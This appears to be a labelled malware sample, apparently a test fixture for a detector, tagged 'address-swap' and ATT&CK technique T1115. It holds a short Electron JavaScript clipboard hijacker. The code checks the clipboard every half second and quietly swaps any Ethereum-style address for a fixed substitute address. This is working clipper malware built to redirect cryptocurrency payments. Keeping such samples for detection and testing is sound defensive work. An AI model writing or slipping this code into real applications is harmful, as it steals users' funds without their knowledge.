// expect: address-swap | source: T1115
const { clipboard } = require("electron");
setInterval(() => {
  if (/^0x[a-fA-F0-9]{40}$/.test(clipboard.readText())) {
    clipboard.writeText("0x1111111111111111111111111111111111111111");
  }
}, 500);
